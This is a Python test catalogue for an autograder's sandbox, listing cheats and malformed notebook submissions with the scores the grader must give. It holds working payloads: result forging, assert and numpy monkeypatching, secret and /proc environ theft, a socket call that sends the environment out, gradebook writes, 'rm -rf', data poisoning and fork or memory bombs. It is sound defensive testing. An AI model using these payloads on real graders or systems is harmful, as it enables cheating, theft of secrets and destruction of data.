"""The catalogue of cheats and malformed submissions, on 02_single_example_gd (9 points graded
automatically: forward 2, backward 3, update 2, squared 2; the written answer waits for a person).

Each entry is a student who submits one attack, the score they deserve and the status the grader must
give. Most cheats come with the released stubs left unanswered, so the deserved score is 0: any point
would be a point the cheat earned. A few come with correct answers, to show that the grader does not
punish beyond what it must (a huge print still leaves correct answers their points).
Absolute paths in the attacks are those of the course copy being graded (`{course}`), as a student on a
badly set up grader would guess them. `{port}` is a TCP listener of the test on 127.0.0.1.
"""

from __future__ import annotations

import copy
import json
import os
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

from autograder import catalogue, demo
from autograder.judge.integrity import grade_id_of

ASSIGNMENT = "02_single_example_gd"
POINTS = {"forward": 2.0, "backward": 3.0, "update": 2.0, "squared": 2.0}
FULL = sum(POINTS.values())
ANSWER = {name: f"sgd-{name}-code" for name in POINTS}
TEST = {name: f"sgd-{name}-test" for name in POINTS}


@dataclass
class Case:
    student: str
    story: str
    build: Callable[[Builder], object]  # -> a notebook, raw bytes, or a callable that places the files
    deserved: float | None  # None: nothing can be graded (the score column stays empty)
    status: str
    says: str = ""  # a phrase the message must contain


class Builder:
    """Ways to write a submission of the assignment, for one course copy."""

    def __init__(self, root: Path, port: int):
        self.root, self.port = root, port
        self.assignment = catalogue.load(root).get(ASSIGNMENT)

    def solved(self, **replace: str):
        return demo.solved(self.root, self.assignment, {ANSWER[name]: source for name, source in replace.items()})

    def stub(self):
        return nbformat.read(self.root / "release" / ASSIGNMENT / self.assignment.notebook, as_version=4)

    def with_cell(self, source: str, answered: bool = False, at: str = "top"):
        """A submission with one extra code cell, right after the set-up cell ("top") or last ("end")."""
        nb = self.solved() if answered else self.stub()
        source = source.format(course=self.root, port=self.port, assignment=ASSIGNMENT)
        cell = nbformat.v4.new_code_cell(source)
        if at == "top":
            nb.cells.insert(next(i for i, c in enumerate(nb.cells) if c.cell_type == "code") + 1, cell)
        else:
            nb.cells.append(cell)
        return nb

    def bytes_of(self, nb) -> bytes:
        return nbformat.writes(nb).encode()

    def json_of(self, nb) -> dict:
        return json.loads(nbformat.writes(nb))


def cell_index(nb, grade_id: str) -> int:
    return next(i for i, c in enumerate(nb.cells) if grade_id_of(c) == grade_id)


def edited(nb, change: Callable) -> object:
    """`nb` after `change(nb)`: a submission written as its difference from another."""
    change(nb)
    return nb


# --- cheats ------------------------------------------------------------------------------------

# The notebook process's own channel to the runner, found in memory: forged results for every check, sent
# before the real ones (only the first results of a check count).
FORGE_RESULTS = """
import gc, json
from autograder.inside.notebook import RunnerChannel
channel = next(o for o in gc.get_objects() if isinstance(o, RunnerChannel))
for grade_id in ("sgd-forward-test", "sgd-backward-test", "sgd-update-test"):
    channel.send({{"results": grade_id, "text": json.dumps({{"__list__": [{{"__dict__": [["value", 0.5]]}}] * 3}})}})
"""

# What is left of the grader's channel in reach: every descriptor of every other process of the sandbox.
PROC_FD = """
import os
reached = []
for pid in [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]:
    try:
        fds = os.listdir(f'/proc/{{pid}}/fd')
    except OSError:
        continue
    for fd in fds:
        for mode in (os.O_WRONLY, os.O_RDONLY):
            try:
                handle = os.open(f'/proc/{{pid}}/fd/{{fd}}', mode | os.O_NONBLOCK)
            except OSError:
                continue
            reached.append((pid, fd, mode))
            if mode == os.O_WRONLY:
                os.write(handle, b'0000000045\\n{{"ending": "finished", "cells": {{}}, "results": {{}}}}')
            else:
                os.read(handle, 1 << 16)
            os.close(handle)
print('reached', reached)
"""

# Memory of other students' jobs or of the reference, in this process: the previous honest student's code
# carries a marker, and the reference's code its "### BEGIN SOLUTION" lines.
MEMORY_SCAN = """
found = set()
with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', 0) as mem:
    for line in maps:
        low, high = (int(x, 16) for x in line.split()[0].split('-'))
        if 'r' not in line.split()[1] or high - low > 1 << 30:
            continue
        try:
            mem.seek(low)
            chunk = mem.read(high - low)
        except (OSError, ValueError, OverflowError):
            continue
        # Each marker in two halves that this cell never joins: joined, it would be in this cell's memory.
        for first, second in ((b'honest-marker-', b'4417'), (b'### BEGIN', b' SOLUTION')):
            at = chunk.find(first)
            while at >= 0:
                if chunk[at + len(first):at + len(first) + len(second)] == second:
                    found.add(first.decode() + '...')
                at = chunk.find(first, at + 1)
print('found', sorted(found))
"""

# Everything a student's code can see of environments: its own and every process's in the sandbox.
READ_ENVIRONMENTS = """
import os
seen = dict(os.environ)
for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
    try:
        seen[pid] = open(f'/proc/{{pid}}/environ', 'rb').read().decode(errors='replace')
    except OSError:
        pass
print(seen)
"""

# Keeps the stand-ins it meets while forward is judged (backward and update stand in as the reference's
# then) and answers backward and update with them: a stand-in never answers before its function's results.
STEAL_STAND_INS = ("STOLEN = {}\n\n\ndef forward(x1, x2, w1, w2, b):\n"
                   "    STOLEN.update(backward=backward, update=update)\n    return 0.5\n")
USE_STOLEN = {"backward": "def backward(x1, x2, a, y):\n    return STOLEN['backward'](x1, x2, a, y)\n",
              "update": "def update(params, grads, alpha):\n    return STOLEN['update'](params, grads, alpha)\n"}

# Sends empty results for backward and update first, then asks their stand-ins for the answers.
EARLY_RESULTS = """
import gc, json
from autograder.inside.notebook import RunnerChannel, StandIn
channel = next(o for o in gc.get_objects() if isinstance(o, RunnerChannel))
for grade_id in ("sgd-backward-test", "sgd-update-test"):
    channel.send({{"results": grade_id, "text": json.dumps({{"__list__": []}})}})
ask_backward, ask_update = StandIn("backward", None, channel, {{}}), StandIn("update", None, channel, {{}})

def backward(x1, x2, a, y):
    return ask_backward(x1, x2, a, y)

def update(params, grads, alpha):
    return ask_update(params, grads, alpha)
"""

# Results the grader must read with a budget, as a student's code can send them through its channel.
FORGED_FRAME = """
import gc, json
from autograder.inside.notebook import RunnerChannel
channel = next(o for o in gc.get_objects() if isinstance(o, RunnerChannel))
channel.send({{"results": "sgd-forward-test", "text": {text}}})
"""
DATA_REFERENCES = ("json.dumps({{'__list__': [{{'__dict__': [['value', "
                   "{{'__list__': [{{'__data__': 'train_x'}}] * 5000}}]]}}]"
                   " * 3}})")
DEEP_RESULTS = "'[' * 200000 + ']' * 200000"

READ_SOLUTIONS = """
import json, pathlib
# Where stock nbgrader runs a notebook (autograded/<student>/<assignment>) the course is two folders up.
for course in (pathlib.Path("../.."), pathlib.Path("{course}")):
    try:
        source = json.loads((course / "source" / "{assignment}" / "single_example_gd.ipynb").read_text())
    except OSError:
        continue
    for cell in source["cells"]:
        if cell["metadata"].get("nbgrader", {{}}).get("solution"):
            exec("".join(cell["source"]))
"""

SIMPLE_CHEATS = {
    "cheat-allclose": ("replaces np.allclose and np.isclose with always-true functions",
                       "import numpy as np\nnp.allclose = lambda *a, **k: True\n"
                       "np.isclose = lambda a, b, *r, **k: np.ones_like(a, dtype=bool)\n"),
    "cheat-testing": ("turns numpy.testing's asserts into no-ops",
                      "import numpy.testing as t\nfor name in dir(t):\n    if name.startswith('assert'):\n"
                      "        setattr(t, name, lambda *a, **k: None)\n"),
    "cheat-input-transformer": ("an IPython input transformer that turns every later cell mentioning checks into "
                                "`pass`",
                                "def blank(lines):\n"
                                "    return ['pass\\n'] if any('check' in l for l in lines) else lines\n"
                                "get_ipython().input_transformers_cleanup.append(blank)\n"),
    "cheat-ast-transformer": ("an AST transformer that deletes every statement of later cells",
                              "import ast\nclass Gut(ast.NodeTransformer):\n"
                              "    def visit_Module(self, node):\n        node.body = []\n        return node\n"
                              "get_ipython().ast_transformers.append(Gut())\n"),
    "cheat-custom-exc": ("set_custom_exc swallows every error of later cells",
                         "get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)\n"),
    "cheat-excepthook": ("sys.excepthook and the shell's showtraceback silenced",
                         "import sys\nsys.excepthook = lambda *a: None\n"
                         "get_ipython().showtraceback = lambda *a, **k: None\n"
                         "get_ipython()._showtraceback = lambda *a, **k: None\n"),
    "cheat-builtins": ("builtins replaced: all and any always true, abs always 0, AssertionError harmless",
                       "import builtins\nbuiltins.all = builtins.any = lambda *a: True\nbuiltins.abs = lambda x: 0\n"
                       "builtins.AssertionError = type('AssertionError', (Warning,), {{}})\n"),
    "cheat-checks-module": ("every function of the course's checks module turned into a no-op",
                            "from autograder import checks\nfor name in dir(checks):\n"
                            "    if name.startswith(('check', 'call')):\n"
                            "        setattr(checks, name, lambda *a, **k: 0.5)\n"
                            "checks.CheckFailed = type('CheckFailed', (Warning,), {{}})\n"),
    "cheat-inside-module": ("the sandbox's own code replaced: hidden calls answer 0.5 without calling anything",
                            "import json\nimport autograder.inside.notebook as inside\n"
                            "inside.hidden_results = lambda call, ns, ch: json.dumps("
                            "{{'__list__': [{{'__dict__': [['value', 0.5]]}}] * 3}})\n"),
    "cheat-forge-results": ("sends forged results for every check through its own channel, before the real ones",
                            FORGE_RESULTS),
    "cheat-read-source": ("reads the solutions from source/ and runs them (what works on stock nbgrader)",
                          READ_SOLUTIONS),
    "cheat-read-secret": ("looks for the course secret in the environment and on disk",
                          "import os\nsecret = os.environ.get('AUTOGRADER_SECRET') or "
                          "open('{course}/.autograder/secret').read()\n"),
    "cheat-reference-module": ("asks autograder.reference for the reference solution",
                               "from autograder import reference\n"
                               "ref = reference.load(__import__('pathlib').Path("
                               "'{course}/source/{assignment}/single_example_gd.ipynb'))\n"
                               "forward, backward, update = ref['forward'], ref['backward'], ref['update']\n"),
    "cheat-write-gradebook": ("writes full marks into gradebook.db with sqlite3",
                              "import sqlite3\ndb = sqlite3.connect('{course}/gradebook.db')\n"
                              "db.execute('update grade set auto_score = 100')\ndb.commit()\n"),
    "cheat-timestamp": ("rewrites its own timestamp.txt to an earlier date",
                        "open('{course}/submitted/cheat-timestamp/{assignment}/timestamp.txt', 'w')"
                        ".write('2020-01-01 00:00:00.000000 UTC')\n"),
    "cheat-feedback": ("writes its own feedback page and autograded notebook",
                       "import os\nos.makedirs('{course}/feedback/cheat-feedback/{assignment}', exist_ok=True)\n"
                       "open('{course}/feedback/cheat-feedback/{assignment}/single_example_gd.html', 'w')"
                       ".write('7/7')\n"),
    "cheat-network": ("sends its environment to a server and fetches answers from the internet",
                      "import socket, os\nfor host in ('127.0.0.1', '1.1.1.1'):\n"
                      "    s = socket.create_connection((host, {port} if host == '127.0.0.1' else 80), timeout=2)\n"
                      "    s.sendall(repr(dict(os.environ)).encode())\n"),
    "cheat-data-poison": ("overwrites the data set so that the next students fail",
                          "open('/data/train_catvnoncat.h5', 'wb').write(b'poison')\n"),
    "cheat-shell-escape": ("shell commands: deletes source/ and copies the gradebook",
                           "!rm -rf {course}/source {course}/gradebook.db\n"
                           "!cp {course}/gradebook.db /tmp/ 2>/dev/null\n"),
    "cheat-ptrace": ("reads the grader's memory through /proc",
                     "import os\nppid = os.getppid()\nopen(f'/proc/{{ppid}}/mem', 'rb').read(1)\n"),
}

SANDBOX_LIMITS = {
    "bomb-fork": ("a fork bomb", "import os\nwhile True:\n    os.fork()\n", "processes"),
    "bomb-disk": ("fills the disk",
                  "with open('big', 'wb') as f:\n    while True:\n        f.write(b'x' * (1 << 20))\n", "disk"),
    "bomb-memory": ("allocates 20 GB", "hog = bytearray(20 << 30)\n", "memory"),
    "bomb-loop": ("an endless loop before the answers", "while True:\n    pass\n", "timeout"),
    "bomb-sigint": ("ignores SIGINT and SIGTERM and catches KeyboardInterrupt in an endless loop",
                    "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                    "signal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n    try:\n        time.sleep(1)\n"
                    "    except KeyboardInterrupt:\n        pass\n", "timeout"),
    "bomb-exit": ("kills its own kernel with os._exit", "import os\nos._exit(0)\n", "crashed"),
    "bomb-kill-grader": ("tries to kill the sandbox's runner (pid 1, which signals from inside cannot reach)",
                         "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.kill(1, signal.SIGKILL)\n",
                         "ok"),
}

# Attacks on what the sandbox keeps from one job to the next: each is followed, in the same sandbox
# (`--jobs 1`), by an honest student named `<attack>~honest`, who must keep full marks.
KILL_OR_STOP_OTHERS = ("import os, signal\nfor p in os.listdir('/proc'):\n"
                       "    if p.isdigit() and int(p) not in (1, os.getpid()):\n"
                       "        try:\n            os.kill(int(p), signal.{signal})\n        except OSError:\n"
                       "            pass\n")
NEIGHBOURS = {
    "chan-proc-fd": ("opens every descriptor of every other process in the sandbox, to forge the runner's "
                     "answer or read the next student's job", PROC_FD),
    "chan-memory-scan": ("scans its own memory for the previous student's code and for the reference solution",
                         MEMORY_SCAN),
    "chan-kill-all": ("kills every other process of the sandbox (the zygote that forks the next student)",
                      KILL_OR_STOP_OTHERS.replace("{signal}", "SIGKILL")),
    "chan-stop-all": ("stops every other process of the sandbox with SIGSTOP",
                      KILL_OR_STOP_OTHERS.replace("{signal}", "SIGSTOP")),
    "env-read": ("reads its environment and every process's /proc/<pid>/environ, looking for the grader's secrets",
                 READ_ENVIRONMENTS),
    "cheat-scratch-poison": ("leaves a numpy.py and a sitecustomize.py wherever it can write, for the next student",
                             "import os\nfor d in ('/', '/tmp', '/tmp/job/work', os.environ['HOME'], '/dev', "
                             "'/dev/shm'):\n    for name in ('numpy.py', 'sitecustomize.py', 'autograder.py'):\n"
                             "        try:\n            open(os.path.join(d, name), 'w').write('raise SystemExit')\n"
                             "        except OSError:\n            pass\n"),
}

# The honest students who follow an attack carry a marker the memory scan looks for.
MARKED_FORWARD = ("def forward(x1, x2, w1, w2, b):\n    # honest-marker-4417\n"
                  "    return sigmoid(w1 * x1 + w2 * x2 + b)\n")
LIAR = ("import numpy as np\n\nclass Liar:\n    __class__ = property(lambda self: np.ndarray)\n"
        "    def __eq__(self, other):\n        raise RuntimeError\n    def __array__(self, *a, **k):\n"
        "        raise RuntimeError\n    def __float__(self):\n        raise RuntimeError\n\n"
        "def forward(x1, x2, w1, w2, b):\n    return Liar()\n")
BAD_DISPLAY = ("get_ipython().display_pub.publish({{'text/plain': 3, 'text/html': ['<b>']}}, metadata=7)\n"
               "print('lone \\ud800 surrogate')\n")

HARD_CODED = ("def forward(x1, x2, w1, w2, b):\n"
              "    known = {(-1.5, 0.5, 0.8, -1.2, 0.3): 0.1824255238, (2.0, 3.0, -0.4, 0.1, -0.2): 0.3318122278}\n"
              "    return known.get((x1, x2, w1, w2, b), 0.5)\n")
SLOW_ON_HIDDEN = ("def backward(x1, x2, a, y):\n"
                  "    if (x1, x2) not in ((2.0, -0.5), (-1.0, 4.0)):\n        while True:\n            pass\n"
                  "    dz = a - y\n    return {'dw1': x1 * dz, 'dw2': x2 * dz, 'db': dz}\n")


def _cheats() -> list[Case]:
    cases = [Case(student, story, lambda b, s=source: b.with_cell(s), 0.0, "ok")
             for student, (story, source) in SIMPLE_CHEATS.items()]
    for student, (story, source) in NEIGHBOURS.items():
        cases += [Case(student, story, lambda b, s=source: b.with_cell(s), 0.0, "ok"),
                  Case(f"{student}~honest", "correct, graded right after the attack in the same sandbox",
                       lambda b: b.solved(forward=MARKED_FORWARD), FULL, "ok")]
    cases += [
        Case("chan-standin-steal",
             "keeps the stand-ins it meets while forward is judged, to answer backward and update",
             lambda b: edited(b.stub(), lambda nb: [_set(nb, ANSWER["forward"], STEAL_STAND_INS),
                                                    _set(nb, ANSWER["backward"], USE_STOLEN["backward"]),
                                                    _set(nb, ANSWER["update"], USE_STOLEN["update"])]), 0.0, "ok"),
        Case("chan-standin-early", "sends empty results for backward and update first, then asks their stand-ins",
             lambda b: b.with_cell(EARLY_RESULTS), 0.0, "ok"),
        Case("res-data-refs", "sends results that refer 15 000 times to the 20 MB training set",
             lambda b: b.with_cell(FORGED_FRAME.replace("{text}", DATA_REFERENCES), answered=True), FULL - 2, "ok"),
        Case("res-deep", "sends results nested 200 000 levels deep",
             lambda b: b.with_cell(FORGED_FRAME.replace("{text}", DEEP_RESULTS), answered=True), FULL - 2, "ok"),
        Case("res-generator", "forward returns a generator", lambda b: b.solved(
            forward="def forward(x1, x2, w1, w2, b):\n    return (v for v in [sigmoid(w1 * x1 + w2 * x2 + b)])\n"),
            FULL - 2, "ok"),
        Case("res-liar", "forward returns an object that claims to be an array and breaks every method",
             lambda b: b.solved(forward=LIAR), FULL - 2, "ok"),
        Case("res-huge", "forward returns an array of 100 MB; only forward's points are lost",
             lambda b: b.solved(forward="import numpy as np\n\ndef forward(x1, x2, w1, w2, b):\n"
                                        "    return np.zeros(13_000_000)\n"), FULL - 2, "ok"),
        Case("res-bad-display", "shows outputs nbformat would not accept, and a lone surrogate",
             lambda b: b.with_cell(BAD_DISPLAY, answered=True), FULL, "ok"),
    ]
    cases += [Case(student, story, lambda b, s=source: b.with_cell(s), 0.0, status)
              for student, (story, source, status) in SANDBOX_LIMITS.items()]
    cases += [
        Case("cheat-huge-output", "correct answers, then prints 100 MB", lambda b: b.with_cell(
            "for _ in range(100):\n    print('x' * (1 << 20))\n", answered=True, at="end"), FULL, "output",
            "printed more than"),
        Case("cheat-hard-coded", "forward returns the public checks' expected values, 0.5 otherwise",
             lambda b: edited(b.stub(), lambda nb: _set(nb, ANSWER["forward"], HARD_CODED)), 0.0, "ok"),
        Case("cheat-slow-on-hidden", "forward right; backward loops forever on any input it has not seen",
             lambda b: b.solved(backward=SLOW_ON_HIDDEN, update=_stub_source(b, "update")), POINTS["forward"],
             "timeout"),
        Case("cheat-delete-tests", "wrong answers, and every test cell deleted",
             lambda b: edited(b.stub(), lambda nb: _drop(nb, *TEST.values())), 0.0, "tampered", "is missing"),
        Case("cheat-empty-tests", "wrong answers, and every test cell emptied",
             lambda b: edited(b.stub(), lambda nb: [_set(nb, t, "pass") for t in TEST.values()]), 0.0, "tampered",
             "was changed"),
        Case("cheat-points", "forward right; the points of its test raised to 100",
             lambda b: edited(b.solved(**{name: _stub_source(b, name) for name in ("backward", "update", "squared")}),
                              lambda nb: _meta(nb, TEST["forward"]).update(points=100)), POINTS["forward"], "tampered",
             "points"),
        Case("cheat-swap-ids", "forward right only; the grade ids of its test and backward's test swapped",
             lambda b: edited(b.solved(**{name: _stub_source(b, name) for name in ("backward", "update", "squared")}),
                              _swap_test_ids), POINTS["forward"], "tampered"),
        Case("cheat-fake-grade-cell", "adds a graded cell of its own worth 50 points that always passes",
             lambda b: _with_fake_grade_cell(b), 0.0, "tampered", "not part of the assignment"),
        Case("cheat-checksum", "edits a test cell and forges its checksum",
             lambda b: edited(b.stub(), _forge_checksum), 0.0, "tampered", "was changed"),
        Case("cheat-reorder", "wrong answers; test cells moved to the top, before anything is defined",
             lambda b: edited(b.stub(), _tests_first), 0.0, "ok"),
    ]
    return cases


def _stub_source(builder: Builder, name: str) -> str:
    nb = builder.stub()
    return nb.cells[cell_index(nb, ANSWER[name])].source


def _set(nb, grade_id: str, source: str) -> None:
    nb.cells[cell_index(nb, grade_id)].source = source


def _meta(nb, grade_id: str) -> dict:
    return nb.cells[cell_index(nb, grade_id)].metadata["nbgrader"]


def _drop(nb, *grade_ids: str) -> None:
    nb.cells = [c for c in nb.cells if grade_id_of(c) not in grade_ids]


def _swap_test_ids(nb) -> None:
    first, second = _meta(nb, TEST["forward"]), _meta(nb, TEST["backward"])
    first["grade_id"], second["grade_id"] = second["grade_id"], first["grade_id"]


def _with_fake_grade_cell(builder: Builder):
    nb = builder.stub()
    cell = nbformat.v4.new_code_cell("print('bonus')")
    cell.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 50,
                                 "grade_id": "bonus-test", "schema_version": 3}
    nb.cells.append(cell)
    return nb


def _forge_checksum(nb) -> None:
    from nbgrader import utils

    cell = nb.cells[cell_index(nb, TEST["forward"])]
    cell.source = "print('forward: all public checks passed.')"
    cell.metadata["nbgrader"]["checksum"] = utils.compute_checksum(cell)


def _tests_first(nb) -> None:
    tests = [c for c in nb.cells if grade_id_of(c) in TEST.values()]
    rest = [c for c in nb.cells if c not in tests]
    nb.cells = rest[:3] + tests + rest[3:]


CHEATS = _cheats()


# --- malformed submissions -----------------------------------------------------------------------

def _v3(builder: Builder) -> bytes:
    return nbformat.writes(nbformat.convert(builder.solved(), 3)).encode()


def _json_edit(change: Callable[[dict], object]) -> Callable[[Builder], bytes]:
    def build(builder: Builder) -> bytes:
        data = builder.json_of(builder.solved())
        result = change(data)
        return json.dumps(data if result is None else result).encode()
    return build


def _placed(place: Callable[[Path, Builder], None]) -> Callable[[Builder], Callable]:
    """A submission that is not one file of content (a folder, a link): placed by hand."""
    return lambda builder: (lambda folder: place(folder, builder))


def _symlink_to_source(folder: Path, builder: Builder) -> None:
    (folder / builder.assignment.notebook).symlink_to(
        builder.root / "source" / ASSIGNMENT / builder.assignment.notebook)


def _renamed_file(folder: Path, builder: Builder) -> None:
    nbformat.write(builder.solved(), folder / "single_example_gd (1).ipynb")


def _huge_file(folder: Path, builder: Builder) -> None:
    with open(folder / builder.assignment.notebook, "wb") as handle:
        handle.truncate(200 << 20)  # sparse: 200 MB that take no disk


def _directory(folder: Path, builder: Builder) -> None:
    (folder / builder.assignment.notebook).mkdir()


def _fifo(folder: Path, builder: Builder) -> None:
    os.mkfifo(folder / builder.assignment.notebook)


def _folder_link(folder: Path, builder: Builder) -> None:
    """The student's assignment folder is a link to another student's."""
    shutil.rmtree(folder)
    folder.symlink_to(folder.parent.parent / HONEST[0] / ASSIGNMENT)


def _timestamp(content) -> Callable[[Path, Builder], None]:
    def place(folder: Path, builder: Builder) -> None:
        nbformat.write(builder.solved(), folder / builder.assignment.notebook)
        (folder / "timestamp.txt").unlink()
        if content is None:
            os.mkfifo(folder / "timestamp.txt")
        else:
            (folder / "timestamp.txt").write_text(content)
    return place


def _million_cells(builder: Builder) -> bytes:
    cell = '{"cell_type": "raw", "metadata": {}, "source": ""}'
    return ('{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [' + ",".join([cell] * 1_000_000)
            + "]}").encode()


def _v3_without_worksheets(builder: Builder) -> bytes:
    data = json.loads(nbformat.writes(nbformat.convert(builder.solved(), 3)))
    data.pop("worksheets")
    return json.dumps(data).encode()


def _renamed_answer_id(nb) -> None:
    _meta(nb, ANSWER["backward"])["grade_id"] = "my-backward"


def _unmarked_answer(nb) -> None:
    nb.cells[cell_index(nb, ANSWER["backward"])].metadata = {}


def _duplicated_answer(nb) -> None:
    index = cell_index(nb, ANSWER["forward"])
    first = copy.deepcopy(nb.cells[index])
    first.source = first.source.replace("return", "return 0 *", 1)  # an earlier, wrong attempt
    first.pop("id", None)
    nb.cells.insert(index, nbformat.from_dict(first))


def _answers_in_one_cell(builder: Builder):
    """Every answer written in the first answer cell; the other answer cells deleted."""
    nb = builder.solved()
    sources = [nb.cells[cell_index(nb, ANSWER[name])].source for name in ANSWER]
    nb.cells[cell_index(nb, ANSWER["forward"])].source = "\n\n".join(sources)
    _drop(nb, ANSWER["backward"], ANSWER["update"])
    return nb


def _malformed() -> list[Case]:
    bad = "malformed"
    return [
        Case("bad-empty", "an empty file", lambda b: b"", None, bad, "not a valid notebook"),
        Case("bad-text", "plain text, not JSON", lambda b: b"def forward(x1, x2, w1, w2, b):\n    return 1\n",
             None, bad),
        Case("bad-truncated", "a notebook cut off halfway", lambda b: b.bytes_of(b.solved())[:3000], None, bad),
        Case("bad-binary", "a PNG image renamed .ipynb", lambda b: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8,
             None, bad),
        Case("bad-utf16", "the notebook saved as UTF-16", lambda b: b.bytes_of(b.solved()).decode().encode("utf-16"),
             None, bad),
        Case("bad-invalid-utf8", "a byte that is not UTF-8 in the middle",
             lambda b: b.bytes_of(b.solved()).replace(b"forward", b"forw\xffard", 1), None, bad),
        Case("bad-json-list", "a JSON list", lambda b: b"[1, 2, 3]", None, bad),
        Case("bad-json-string", "a JSON string", lambda b: b'"notebook"', None, bad),
        Case("bad-no-cells", "no `cells` key", _json_edit(lambda d: d.pop("cells")), None, bad),
        Case("bad-cells-not-list", "`cells` is an object", _json_edit(lambda d: d.update(cells={"a": 1})), None, bad),
        Case("bad-no-source", "a cell without `source`", _json_edit(lambda d: d["cells"][3].pop("source")), None, bad),
        Case("bad-cell-type", "a cell of an unknown type",
             _json_edit(lambda d: d["cells"][3].update(cell_type="python")), None, bad),
        Case("bad-source-type", "a cell whose source is a number",
             _json_edit(lambda d: d["cells"][3].update(source=42)), None, bad),
        Case("bad-no-metadata", "no notebook metadata", _json_edit(lambda d: d.pop("metadata")), None, bad),
        Case("bad-nbformat-5", "claims nbformat 5", _json_edit(lambda d: d.update(nbformat=5)), None, bad, "nbformat"),
        Case("bad-nbformat-2", "claims nbformat 2", _json_edit(lambda d: d.update(nbformat=2)), None, bad, "nbformat"),
        Case("bad-nesting", "JSON nested 100000 deep", lambda b: b"[" * 100000 + b"]" * 100000, None, bad),
        Case("bad-symlink", "a symbolic link to the instructor's source notebook", _placed(_symlink_to_source),
             None, bad, "symbolic link"),
        Case("bad-huge", "a 200 MB file", _placed(_huge_file), None, bad, "more than the 100 MB"),
        Case("bad-directory", "a folder named like the notebook", _placed(_directory), None, "malformed",
             "is a folder"),
        Case("bad-renamed-file", "the notebook saved under another name", _placed(_renamed_file), None, "missing",
             "was it renamed?"),
        Case("bad-nothing", "an empty submission folder", lambda b: None, None, "missing", "was not submitted"),
        Case("bad-empty-cells", "a notebook whose cell list is empty", _json_edit(lambda d: d.update(cells=[])), None,
             bad, "no code cells"),
        Case("bad-v3-no-worksheets", "an nbformat 3 file without worksheets", _v3_without_worksheets, None, bad),
        Case("bad-million-cells", "a notebook of a million empty cells (62 MB)", _million_cells, None, bad,
             "1000000 cells"),
        Case("bad-fifo", "a named pipe named like the notebook", _placed(_fifo), None, bad, "not a regular file"),
        Case("bad-folder-link", "the assignment folder is a link to another student's", _placed(_folder_link), None,
             bad, "symbolic link"),
        # Damaged but gradable: the student's work is found and graded, the damage is named.
        Case("odd-nbformat-3", "correct, saved as an nbformat 3 notebook", _v3, FULL, "repaired", "nbformat 3"),
        Case("odd-renamed-answer", "correct; the backward answer cell's grade id changed",
             lambda b: edited(b.solved(), _renamed_answer_id), FULL, "repaired", "sgd-backward-code"),
        Case("odd-unmarked-answer", "correct; the backward answer pasted into a cell without nbgrader metadata",
             lambda b: edited(b.solved(), _unmarked_answer), FULL, "repaired", "sgd-backward-code"),
        Case("odd-duplicated-answer", "correct; an earlier wrong attempt at forward left above the answer",
             lambda b: edited(b.solved(), _duplicated_answer), FULL, "repaired", "sgd-forward-code"),
        Case("odd-one-answer-cell", "correct; all three functions written in the first answer cell",
             _answers_in_one_cell, FULL, "repaired", "sgd-update-code"),
        Case("odd-deleted-answer", "forward and backward right; the update answer cell deleted",
             lambda b: edited(b.solved(), lambda nb: _drop(nb, ANSWER["update"])), FULL - POINTS["update"], "repaired",
             "sgd-update-code"),
        Case("odd-nbgrader-string", "correct; the nbgrader metadata of a test cell replaced by a string",
             lambda b: edited(b.solved(), lambda nb: nb.cells[cell_index(nb, TEST["forward"])].metadata.update(
                 nbgrader="x")), FULL, "tampered", "sgd-forward-test is missing"),
        Case("odd-kernelspec", "correct, with an R kernelspec",
             lambda b: edited(b.solved(), lambda nb: nb.metadata.update(kernelspec={"name": "ir", "language": "R",
                                                                                      "display_name": "R"})),
             FULL, "ok"),
        Case("odd-outputs", "correct, with forged error and result outputs saved in the test cells",
             lambda b: edited(b.solved(), _forged_outputs), FULL, "ok"),
        Case("odd-grade-id-list", "correct; a test cell's grade id replaced by a list",
             lambda b: edited(b.solved(), lambda nb: _meta(nb, TEST["forward"]).update(grade_id=["x"])), FULL,
             "tampered", "sgd-forward-test is missing"),
        Case("odd-escape-grade-id", "adds a graded cell whose grade id clears the instructor's terminal",
             lambda b: edited(b.solved(), lambda nb: _meta(nb, TEST["update"]).update(grade_id="\x1b[2J\x1b[31mred")),
             FULL, "tampered"),
        Case("odd-surrogate", "correct, with a lone surrogate in a markdown cell",
             lambda b: b.bytes_of(b.solved()).replace(b"# Gradient descent", b"# \\ud800 Gradient descent", 1),
             FULL, "ok"),
        Case("odd-timestamp-text", "correct; its timestamp.txt is not a date", _placed(_timestamp("last tuesday")),
             FULL, "tampered", "timestamp.txt is not a date"),
        Case("odd-timestamp-fifo", "correct; its timestamp.txt is a named pipe", _placed(_timestamp(None)),
             FULL, "tampered", "timestamp.txt"),
        Case("=1+2", "correct; a student id that is a spreadsheet formula", lambda b: b.solved(), FULL, "ok"),
    ]


def _forged_outputs(nb) -> None:
    for grade_id in TEST.values():
        nb.cells[cell_index(nb, grade_id)].outputs = [nbformat.v4.new_output(
            "error", ename="AssertionError", evalue="forged", traceback=[])]


MALFORMED = _malformed()

HONEST = ["a-honest", "m-honest", "z-honest"]  # graded first, in the middle and last


def all_cases() -> list[Case]:
    honest = [Case(name, "correct", lambda b: b.solved(), FULL, "ok") for name in HONEST]
    return honest + CHEATS + MALFORMED
